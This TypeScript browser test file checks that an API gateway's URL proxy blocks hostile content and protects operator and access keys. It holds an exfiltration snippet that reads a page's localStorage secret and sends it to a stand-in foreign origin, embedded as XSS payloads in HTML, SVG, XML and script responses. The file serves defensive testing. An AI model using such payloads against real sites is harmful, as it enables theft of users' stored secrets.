import type { IncomingMessage, ServerResponse } from "node:http";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { findChromium, inPage, launchChromium } from "../support/browser.ts";
import { type ForeignSite, startForeignSite } from "../support/foreign-site.ts";
import { DEPLOYED, type TestServer } from "../support/servers.ts";
import { ACCESS_KEY, OPERATOR_KEY } from "../support/shared/canary.ts";

const CHROMIUM = findChromium("/proxy in a real browser");
const ACCESS = ACCESS_KEY;
const SECRET = "page-key-nobody-else-reads";

/** Each tells the target that it ran, and what it found in the page's storage. */
const STEAL = `
  const found = () => { try { return localStorage.getItem("key") } catch { return "nothing" } };
  fetch("ORIGIN/ran?" + encodeURIComponent(self.document ? found() : "worker"), { mode: "no-cors", keepalive: true });
`;
const TYPES: Record<string, [type: string, body: string]> = {
  "/page": ["text/html", `<title>hostile</title><script>${STEAL}</script>`],
  "/svg": [
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg"><script>${STEAL}</script></svg>`,
  ],
  "/xml": [
    "application/xml",
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${STEAL}</x:script>`,
  ],
  "/script": ["text/javascript", STEAL],
  "/module": ["text/javascript", `${STEAL}; export default 1`],
  "/style": ["text/css", "body { color: rgb(1, 2, 3) }"],
  "/no-type": ["", `<script>${STEAL}</script>`],
  "/text": ["text/plain", "only text"],
};

/** What a foreign site serves: hostile content, and a page of its own. */
let heard: string[] = [];
let origin = "";
function answer(request: IncomingMessage, response: ServerResponse): void {
  const path = request.url ?? "";
  if (path.startsWith("/ran")) heard.push(decodeURIComponent(path));
  const [type, body] = TYPES[path] ?? ["text/html", "<title>foreign</title>"];
  if (type !== "") response.setHeader("content-type", type);
  response.setHeader("set-cookie", "stolen=1; Path=/");
  response.setHeader("service-worker-allowed", "/");
  response.end(body.replaceAll("ORIGIN", origin));
}

/** What of the foreign site ran up to now: a request that left before this one has come before it. */
async function ran(page: Page): Promise<string[]> {
  await inPage(page, 'await fetch(arg, { mode: "no-cors" })', `${origin}/text`);
  return heard;
}

const inBrowser = describe.skipIf(CHROMIUM === undefined);

let foreign: ForeignSite;
let browser: Browser;
beforeAll(async () => {
  if (CHROMIUM === undefined) return;
  foreign = await startForeignSite(answer);
  origin = foreign.origin;
  // They would keep stolen keys from the thief of these tests, who is on this very machine.
  browser = await launchChromium(CHROMIUM, ["--disable-features=LocalNetworkAccessChecks"]);
}, 60_000);
afterAll(async () => {
  await browser?.close();
  foreign?.close();
});

inBrowser.each(DEPLOYED)("a page on the origin of a gateway on %s", (_, start) => {
  let server: TestServer;
  /** Shares its storage among its pages. */
  let context: BrowserContext;
  let page: Page;
  beforeAll(async () => {
    server = await start({ PROXY_ALLOWED_HOSTS: new URL(origin).host });
    context = await browser.newContext();
    page = await context.newPage();
    await page.goto(`${server.url}/health`);
    const store = 'sessionStorage.setItem("key", arg); localStorage.setItem("key", arg)';
    await inPage(page, store, SECRET);
    heard = [];
  }, 90_000);
  afterAll(() => server.stop());

  const proxied = (path: string) => `/proxy?url=${encodeURIComponent(origin + path)}`;

  test("fetches what it wants (SEC-32)", async () => {
    const read = "return (await fetch(arg)).text()";
    expect(await inPage(page, read, proxied("/text"))).toBe("only text");
    expect(await inPage(page, read, proxied("/page"))).toContain("hostile");
  });

  test.each([
    ["script", { src: "/script" }],
    ["link", { href: "/style", rel: "stylesheet" }],
    ["img", { src: "/svg" }],
    ["iframe", { src: "/page" }],
    ["iframe", { src: "/svg" }],
    ["iframe", { src: "/xml" }],
    ["iframe", { src: "/no-type" }],
    ["embed", { src: "/page" }],
    ["object", { data: "/page" }],
  ])("runs nothing that it puts into <%s> %j (SEC-32, P28)", async (tag, given) => {
    const attributes = Object.fromEntries(
      Object.entries(given).map(([name, value]) => [name, name === "rel" ? value : proxied(value)]),
    );
    const load = `
      const element = Object.assign(document.createElement(arg.tag), arg.attributes);
      await new Promise((done) => {
        element.onload = element.onerror = done;
        document.body.append(element);
      });
      return getComputedStyle(document.body).color;`;
    expect(await inPage(page, load, { tag, attributes })).not.toBe("rgb(1, 2, 3)");
    expect(await ran(page)).toEqual([]);
  });

  test("can import no module through it (SEC-32, P28)", async () => {
    const outcome = inPage(page, "return import(arg).then(String, String)", proxied("/module"));
    expect(await outcome).toContain("TypeError");
    expect(await ran(page)).toEqual([]);
  });

  test.each(["Worker", "SharedWorker"])("can start no %s from it (SEC-32, P28)", async (kind) => {
    const start = `
      const worker = new ${kind}(arg);
      return new Promise((done) => { worker.onerror = () => done("error"); });`;
    expect(await inPage(page, start, proxied("/script"))).toBe("error");
    expect(await ran(page)).toEqual([]);
  });

  test("can register no service worker from it, for any scope (SEC-32, P28)", async () => {
    const register = `
      const registering = navigator.serviceWorker.register(arg, { scope: "/" });
      return registering.then(() => "registered", ({ name }) => name);`;
    expect(await inPage(page, register, proxied("/script"))).not.toBe("registered");
    const count = "return (await navigator.serviceWorker.getRegistrations()).length";
    expect(await inPage(page, count)).toBe(0);
  });

  test.each(["/page", "/svg", "/xml", "/no-type"])(
    "shows nothing of %s to whom it is opened for, and nothing runs (SEC-32, P28)",
    async (path) => {
      const opened = await context.newPage();
      const response = await opened.goto(server.url + proxied(path));
      expect(response?.status()).toBe(403);
      expect(await opened.title()).toBe("");
      await opened.close();
      expect(await ran(page)).toEqual([]);
    },
  );

  /** Opens an answer as a browser does that says nothing of what it wants, and takes no download for one. */
  async function open(path: string, without: string[]): Promise<void> {
    const opened = await context.newPage();
    await opened.route("**/proxy?*", async (route) => {
      const answered = await fetch(route.request().url());
      const headers = Object.fromEntries(answered.headers);
      for (const name of ["content-disposition", "content-length", ...without]) {
        delete headers[name];
      }
      await route.fulfill({ status: 200, headers, body: await answered.text() });
    });
    // What is not shown is a download.
    await opened.goto(server.url + proxied(path)).catch(() => undefined);
    await opened.close();
  }

  test.each(["/page", "/svg", "/xml", "/no-type"])(
    "is safe from %s by the policy alone (SEC-31, P28)",
    async (path) => {
      await open(path, []);
      expect(await ran(page)).toEqual([]);
    },
  );

  test("would not be so without it: its key would be read (SEC-31, SEC-32)", async () => {
    await open("/page", ["content-security-policy"]);
    await expect.poll(() => heard.join()).toContain(SECRET);
    heard = [];
  });

  test("gets no cookie from it (SEC-30, P28)", async () => {
    const ask = 'await fetch(arg, { credentials: "include" }); return document.cookie';
    const cookies = await inPage(page, ask, proxied("/text"));
    expect(cookies).toBe("");
    expect(await context.cookies(server.url)).toEqual([]);
  });
});

inBrowser.each(DEPLOYED)("someone else's page before a gateway on %s", (_, start) => {
  let server: TestServer;
  let page: Page;
  beforeAll(async () => {
    server = await start({
      FAL_KEY: OPERATOR_KEY,
      ACCESS_KEYS: ACCESS,
      PROXY_ALLOWED_HOSTS: new URL(origin).host,
    });
    page = await browser.newPage();
    await page.goto(`${origin}/`);
  }, 90_000);
  afterAll(() => server.stop());

  const statusOf = (path: string, init: object) =>
    inPage(page, "return (await fetch(...arg)).status", [server.url + path, init]);

  test("cannot spend the operator's key (SEC-01)", async () => {
    const body = JSON.stringify({ model: "openai/gpt-4o", messages: [] });
    const headers = { "content-type": "application/json" };
    const init = { method: "POST", body, headers, credentials: "omit" } as const;
    expect(await statusOf("/v1/chat/completions", init)).toBe(401);
  });

  test("cannot use its proxy without a token, and can with one (SEC-20, SEC-40)", async () => {
    const path = `/proxy?url=${encodeURIComponent(`${origin}/text`)}`;
    expect(await statusOf("/proxy?url=https://fal.ai/", {})).toBe(401);
    expect(await statusOf(path, { headers: { "x-proxy-token": "a-wrong-one" } })).toBe(401);
    expect(await statusOf(path, { headers: { "x-proxy-token": ACCESS } })).toBe(200);
  });

  test("cannot ask with the cookies of its visitor (SEC-40)", async () => {
    const ask = 'return fetch(arg, { credentials: "include" }).then(String, String)';
    const asked = inPage(page, ask, `${server.url}/health`);
    expect(await asked).toContain("TypeError");
  });
});
